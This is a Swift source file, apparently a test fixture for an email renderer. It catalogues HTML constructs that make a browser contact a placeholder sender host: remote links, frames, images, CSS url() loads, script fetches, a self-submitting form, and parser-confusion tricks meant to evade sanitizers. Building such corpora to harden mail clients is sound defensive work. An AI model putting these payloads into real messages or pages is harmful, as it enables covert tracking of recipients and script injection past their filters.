/// HTML by which a mail would make a browser connect to its sender.
struct HostileConstruct {
    var name: String
    /// `HOST` stands for the address of the sender's listener.
    var html: String

    init(_ name: String, _ html: String) {
        self.name = name
        self.html = html
    }

    static let all = links + frames + images + media + styles + scripts + documents + disguised

    private static let links = [
        HostileConstruct("preconnect", "<link rel=preconnect href=//HOST>"),
        HostileConstruct(
            "preconnect with credentials",
            "<link rel=preconnect crossorigin=use-credentials href=//HOST>"
        ),
        HostileConstruct("dns-prefetch", "<link rel=dns-prefetch href=//HOST>"),
        HostileConstruct("prefetch", "<link rel=prefetch href=//HOST/p>"),
        HostileConstruct("prerender", "<link rel=prerender href=//HOST/p>"),
        HostileConstruct("preload", "<link rel=preload as=image href=//HOST/p>"),
        HostileConstruct("modulepreload", "<link rel=modulepreload href=//HOST/m.js>"),
        HostileConstruct("stylesheet", "<link rel=stylesheet href=//HOST/s.css>"),
        HostileConstruct("icon", "<link rel='shortcut icon' href=//HOST/i.ico>"),
        HostileConstruct("manifest", "<link rel=manifest href=//HOST/m.json>"),
        HostileConstruct("application manifest", "<html manifest=//HOST/m.appcache>"),
    ]
    private static let frames = [
        HostileConstruct("iframe", "<iframe src=//HOST/f></iframe>"),
        HostileConstruct("lazy iframe", "<iframe loading=lazy src=//HOST/f></iframe>"),
        HostileConstruct("srcdoc", "<iframe srcdoc='<link rel=preconnect href=//HOST>'></iframe>"),
        HostileConstruct(
            "data frame",
            "<iframe src=\"data:text/html,<link rel=preconnect href=http://HOST>\"></iframe>"
        ),
        HostileConstruct("frameset", "<frameset><frame src=//HOST/f></frameset>"),
        HostileConstruct("object", "<object data=//HOST/o></object>"),
        HostileConstruct("typed object", "<object type=text/html data=//HOST/o></object>"),
        HostileConstruct("embed", "<embed src=//HOST/e>"),
        HostileConstruct("applet", "<applet code=x archive=//HOST/a></applet>"),
        HostileConstruct("portal", "<portal src=//HOST/p></portal><fencedframe src=//HOST/p></fencedframe>"),
        HostileConstruct(
            "frame in foreignObject",
            "<svg><foreignObject><iframe src=//HOST/f></iframe></foreignObject></svg>"
        ),
    ]
    private static let images = [
        HostileConstruct("image", "<img src=//HOST/i.png>"),
        HostileConstruct("image tag", "<image src=//HOST/i.png>"),
        HostileConstruct("srcset", "<img srcset='//HOST/i.png 1x, //HOST/j.png 2x'>"),
        HostileConstruct("picture", "<picture><source srcset=//HOST/i.png><img></picture>"),
        HostileConstruct("input", "<input type=image src=//HOST/i.png>"),
        HostileConstruct(
            "background",
            "<body background=//HOST/b.png><table background=//HOST/t.png><tr><td>x</table>"
        ),
        HostileConstruct("attribution", "<img attributionsrc=//HOST/a src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>"),
        HostileConstruct("image in SVG", "<svg><image href=//HOST/i.png /><image xlink:href=//HOST/j.png /></svg>"),
        HostileConstruct("use in SVG", "<svg><use href=//HOST/u.svg#x /></svg>"),
        HostileConstruct(
            "filter image in SVG",
            "<svg><filter id=f><feImage href=//HOST/i.png /></filter><rect filter=url(#f) width=9 height=9 /></svg>"
        ),
        HostileConstruct(
            "SVG as image",
            "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
                + "<link xmlns='http://www.w3.org/1999/xhtml' rel='preconnect' href='http://HOST'/>"
                + "<iframe xmlns='http://www.w3.org/1999/xhtml' src='http://HOST'/></foreignObject>"
                + "<image href='http://HOST/i.png' width='9' height='9'/></svg>\">"
        ),
        HostileConstruct("MathML", "<math href=//HOST/m><mi>x</mi><mglyph src=//HOST/g.png></math>"),
    ]
    private static let media = [
        HostileConstruct("video", "<video src=//HOST/v.mp4 preload=auto autoplay muted></video>"),
        HostileConstruct("poster", "<video poster=//HOST/p.png></video>"),
        HostileConstruct("audio", "<audio src=//HOST/a.mp3 preload=auto></audio>"),
        HostileConstruct("source", "<video preload=auto><source src=//HOST/v.mp4></video>"),
        HostileConstruct("track", "<video><track default kind=captions src=//HOST/t.vtt></video>"),
    ]
    private static let styles = [
        HostileConstruct("import", "<style>@import '//HOST/i.css';</style>"),
        HostileConstruct("import by url", "<style>@import url(//HOST/i.css);</style>"),
        HostileConstruct("background in a sheet", "<style>body { background: url(//HOST/b.png) }</style>x"),
        HostileConstruct(
            "font",
            "<style>@font-face { font-family: f; src: url(//HOST/f.woff2) } p { font-family: f }</style><p>x"
        ),
        HostileConstruct(
            "image-set",
            "<p style=\"background: image-set('http://HOST/i.png' 1x, 'http://HOST/j.png' 2x)\">x"
        ),
        HostileConstruct("style attribute", "<p style='background-image: url(//HOST/b.png)'>x"),
        HostileConstruct("escaped style", "<p style='background-image: u\\72l(//HOST/b.png)'>x"),
        HostileConstruct(
            "cursor and list",
            "<ul style='cursor: url(//HOST/c.cur), auto; list-style-image: url(//HOST/l.png)'><li>x</ul>"
        ),
        HostileConstruct(
            "content and mask",
            "<style>p::before { content: url(//HOST/c.png); mask: url(//HOST/m.svg#m) }</style><p>x"
        ),
        HostileConstruct("outside filter", "<p style='filter: url(//HOST/f.svg#f); clip-path: url(//HOST/c.svg#c)'>x"),
        HostileConstruct("shape", "<p style='float: left; shape-outside: url(//HOST/s.png)'>x"),
        HostileConstruct("style in SVG", "<svg><style>@import '//HOST/i.css';</style></svg>"),
    ]
    private static let scripts = [
        HostileConstruct("script", "<script src=//HOST/s.js></script>"),
        HostileConstruct("module", "<script type=module>import 'http://HOST/s.js'</script>"),
        HostileConstruct("inline script", "<script>fetch('http://HOST')</script>"),
        HostileConstruct(
            "speculation rules",
            "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://HOST/p\"]}]}</script>"
        ),
        HostileConstruct(
            "event",
            "<img src=x onerror=\"new Image().src='http://HOST'\"><body onload=\"fetch('http://HOST')\">"
        ),
        HostileConstruct("worker", "<script>new Worker('http://HOST/w.js')</script>"),
        HostileConstruct("script address", "<iframe src=\"javascript:fetch('http://HOST')\"></iframe>"),
    ]
    private static let documents = [
        HostileConstruct("refresh", "<meta http-equiv=refresh content='0;url=http://HOST/m'>"),
        HostileConstruct("base", "<base href=http://HOST/><img src=i.png><a href=x>x</a>"),
        HostileConstruct(
            "policy of its own",
            "<meta http-equiv=Content-Security-Policy content='img-src *'><img src=//HOST/i.png>"
        ),
        HostileConstruct(
            "accept-ch",
            "<meta http-equiv=Delegate-CH content='sec-ch-ua http://HOST'><link rel=preconnect href=//HOST>"
        ),
        HostileConstruct(
            "form",
            "<form id=f action=http://HOST/f method=post><input autofocus></form><script>f.submit()</script>"
        ),
    ]
    private static let disguised = [
        HostileConstruct("noscript", "<noscript><link rel=preconnect href=//HOST></noscript>"),
        HostileConstruct(
            "noscript and title",
            "<noscript><p title='</noscript><link rel=preconnect href=//HOST>'></noscript>"
        ),
        HostileConstruct("end of a comment", "<!--><link rel=preconnect href=//HOST>-->"),
        HostileConstruct("end of a comment by a bang", "<!-- --!><link rel=preconnect href=//HOST>-->"),
        HostileConstruct(
            "conditional comment",
            "<!--[if IE]>x<![endif]--><![if !mso]><link rel=preconnect href=//HOST><![endif]>"
        ),
        HostileConstruct("CDATA", "<svg><![CDATA[ ]]></svg><![CDATA[><link rel=preconnect href=//HOST>]]>"),
        HostileConstruct("slashes in a tag", "<link/rel=preconnect/x='y'/href=//HOST>"),
        HostileConstruct("letter case", "<LiNk ReL=PrEcOnNeCt HrEf=//HOST>"),
        HostileConstruct(
            "NUL bytes",
            "<\0link rel=preconnect href=//HOST><link\0 rel=preconnect href=//HOST><link rel=pre\0connect href=//HOST>"
        ),
        HostileConstruct("unclosed attribute", "<p title=\"<link rel=preconnect href=//HOST>"),
        HostileConstruct("unclosed tag", "<p <link rel=preconnect href=//HOST>"),
        HostileConstruct("character references", "<link rel=&#112;reconnect href=&#x2f;/HOST>"),
        HostileConstruct(
            "raw text in a foreign element",
            "<math><style><!--</style><link rel=preconnect href=//HOST>--></math>"
        ),
        HostileConstruct("style in a select", "<select><style></select><link rel=preconnect href=//HOST></style>"),
        HostileConstruct(
            "foreign table",
            "<form><math><mtext></form><form><mglyph><style></math><link rel=preconnect href=//HOST>"
        ),
        HostileConstruct("title", "<title><a title=\"</title><link rel=preconnect href=//HOST>\">x</a>"),
        HostileConstruct("textarea", "<textarea><p title=\"</textarea><link rel=preconnect href=//HOST>\">x"),
        HostileConstruct("template", "<template shadowrootmode=open><link rel=preconnect href=//HOST></template>"),
        HostileConstruct(
            "escaped script",
            "<script><!--<script></script>--></script><link rel=preconnect href=//HOST>"
        ),
        HostileConstruct("plain text", "<xmp><plaintext></xmp><link rel=preconnect href=//HOST>"),
    ]
}
